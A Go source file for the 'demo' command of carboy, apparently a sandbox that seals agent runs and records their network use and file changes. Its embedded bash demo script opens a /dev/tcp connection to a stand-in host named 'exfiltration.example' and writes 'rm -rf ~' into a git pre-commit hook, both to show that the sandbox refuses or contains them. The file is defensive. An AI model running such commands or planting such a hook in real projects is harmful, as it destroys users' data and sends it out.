//go:build linux

package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/carboy/carboy"
	"github.com/carboy/carboy/internal/change"
	"github.com/carboy/carboy/internal/policy"
	"github.com/carboy/carboy/internal/receipt"
	"github.com/carboy/carboy/internal/safetext"
	"github.com/carboy/carboy/internal/store"
)

const demoLong = `Show the main steps in a scratch directory, which is removed afterwards. A sealed run
edits a file, is refused one address, and reaches an allowed one: a small server that
the demo starts on this machine's loopback. Then the demo shows what happened and what
changed, and lands one file. It reads and writes nothing outside the scratch directory
and contacts no other machine.`

// demoScript runs in the bottle. It needs bash and nothing else, since
// a fresh system may have neither curl nor wget.
const demoScript = `#!/bin/bash
# What an agent may do, in small: work on files, talk to the network.
get() { # get HOST PORT
    exec 3<>"/dev/tcp/$1/$2" || return
    printf 'GET / HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n' "$1" "$2" >&3
    sed '1,/^\r$/d' <&3
}
echo "me:         $(id -un), kernel $(uname -r)"
echo "your home:  $(find ~ -type f 2>/dev/null | wc -l) files"
echo "allowed:    $(get $ALLOWED)"
echo "refused:    $(get exfiltration.example 80 2>&1 | head -n 1)"
echo "a line that was written in the bottle" >>notes.txt
echo "a file that was made in the bottle" >new.txt
echo "rm -rf ~" >.git/hooks/pre-commit
`

const demoNotes = "a line that was there before\n"

func (a *app) demoCmd() *cobra.Command {
	return &cobra.Command{
		Use: "demo", Short: "see a sealed run, its receipt, its diff and a landing", Long: demoLong, GroupID: "look", Args: noArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			d := &demo{a: a}
			defer d.remove()
			return d.run(cmd.Context())
		},
	}
}

type demo struct {
	a    *app
	dir  string // everything of the demo
	work string // the workspace
	step int
}

func (d *demo) remove() {
	if d.dir != "" {
		os.RemoveAll(d.dir)
	}
}

func (d *demo) run(ctx context.Context) error {
	if _, err := os.Stat("/bin/bash"); err != nil {
		return &advisedError{errors.New("demo: needs /bin/bash"), "install bash, or try carboy run -- COMMAND"}
	}
	if err := d.prepare(); err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	port, stop, err := serveDemo()
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	defer stop()
	c, err := carboy.Open(ctx, carboy.Options{Env: d.env, Backend: d.a.backend})
	if err != nil {
		return err
	}
	defer c.Close()
	rec, err := d.sealedRun(ctx, c, port)
	if err != nil {
		return err
	}
	return d.review(ctx, c, rec)
}

// prepare makes the scratch directory. Root runs its commands as the owner of
// the workspace, which therefore must be somebody else.
func (d *demo) prepare() error {
	dir, err := os.MkdirTemp("", "carboy-demo-")
	if err != nil {
		return err
	}
	d.dir, d.work = dir, filepath.Join(dir, "work")
	if err := os.MkdirAll(filepath.Join(d.work, ".git", "hooks"), 0o755); err != nil {
		return err
	}
	for name, text := range map[string]string{"notes.txt": demoNotes, "visit.sh": demoScript} {
		if err := os.WriteFile(filepath.Join(d.work, name), []byte(text), 0o644); err != nil {
			return err
		}
	}
	if os.Geteuid() != 0 {
		return nil
	}
	const nobody = 65534
	if err := os.Chmod(dir, 0o755); err != nil {
		return err
	}
	return filepath.WalkDir(d.work, func(path string, _ os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(path, nobody, nobody)
	})
}

// env keeps the demo's state in the scratch directory.
func (d *demo) env(name string) string {
	if name == "XDG_STATE_HOME" {
		return filepath.Join(d.dir, "state")
	}
	return d.a.env(name)
}

// serveDemo serves one page on the loopback: the address that the demo allows.
func serveDemo() (port int, stop func(), err error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return 0, nil, err
	}
	srv := &http.Server{
		ReadHeaderTimeout: 5 * time.Second,
		Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, "hello from a server on your loopback\n")
		}),
	}
	done := make(chan struct{})
	go func() { srv.Serve(l); close(done) }()
	return l.Addr().(*net.TCPAddr).Port, func() { srv.Close(); <-done }, nil
}

func (d *demo) title(format string, args ...any) {
	d.step++
	line := fmt.Sprintf("%d. %s", d.step, fmt.Sprintf(format, args...))
	fmt.Fprintf(d.a.stdout, "\n%s\n\n", d.a.paint(d.a.stdout, boldText, line))
}

func (d *demo) sealedRun(ctx context.Context, c *carboy.Client, port int) (*receipt.Receipt, error) {
	allowed := fmt.Sprintf("%s:%d", policy.HostGateway, port)
	d.title("A sealed run. This script works on %s:", d.work)
	fmt.Fprintln(d.a.stdout, indented(demoScript))
	fmt.Fprintf(d.a.stdout, "   $ carboy run --allow-private %s -- bash visit.sh\n\n", allowed)
	out := safetext.NewWriter(d.a.stdout, safetext.Options{Prefix: "   | "})
	defer out.Close()
	return c.Run(ctx, carboy.RunOptions{
		Command: []string{"bash", "visit.sh"}, Workspace: d.work, Mode: store.Overlay,
		AllowPrivate: []string{allowed},
		Env:          []string{fmt.Sprintf("ALLOWED=%s %d", policy.HostGateway, port)},
		Stdout:       out, Stderr: out,
	})
}

func (d *demo) review(ctx context.Context, c *carboy.Client, rec *receipt.Receipt) error {
	d.title("What happened, as seen from outside the bottle ($ carboy receipt):")
	if err := receipt.Text(d.a.stdout, rec, d.a.style(false)); err != nil {
		return err
	}
	d.title("What it changed ($ carboy diff). On the host, notes.txt is still %d bytes:", d.size("notes.txt"))
	set, err := c.Changes(rec.ID)
	if err != nil {
		return err
	}
	if _, err := set.Diff(d.a.shown(), change.DiffOptions{Colour: d.a.color(d.a.stdout)}); err != nil {
		return err
	}
	d.title("One file taken home ($ carboy land notes.txt):")
	if _, err := c.Land(ctx, rec.ID, change.LandOptions{Paths: []string{"notes.txt"}}); err != nil {
		return err
	}
	b, err := os.ReadFile(filepath.Join(d.work, "notes.txt"))
	if err != nil {
		return err
	}
	fmt.Fprintf(d.a.stdout, "   $ cat notes.txt\n%s\n", indented(safetext.Lines(string(b), 1000)))
	fmt.Fprintln(d.a.stdout, "The git hook never lands; editors' settings need --include-protected. Now try it on your own work:\ncarboy run -it -- bash")
	return d.check(rec, string(b))
}

func (d *demo) size(name string) int64 {
	fi, err := os.Stat(filepath.Join(d.work, name))
	if err != nil {
		return -1
	}
	return fi.Size()
}

// check returns an error if the demo did not show what it claims.
func (d *demo) check(rec *receipt.Receipt, notes string) error {
	t := rec.Network.Totals
	switch {
	case rec.Exit.Code != 0:
		return fmt.Errorf("demo: the command ended with %d", rec.Exit.Code)
	case t.ConnectionsAllowed == 0:
		return errors.New("demo: the allowed server was not reached")
	case t.NamesRefused+t.ConnectionsRefused == 0:
		return errors.New("demo: nothing was refused")
	case notes == demoNotes:
		return errors.New("demo: the file was not landed")
	}
	return nil
}

func indented(s string) string {
	return "   " + strings.ReplaceAll(strings.TrimSuffix(s, "\n"), "\n", "\n   ")
}
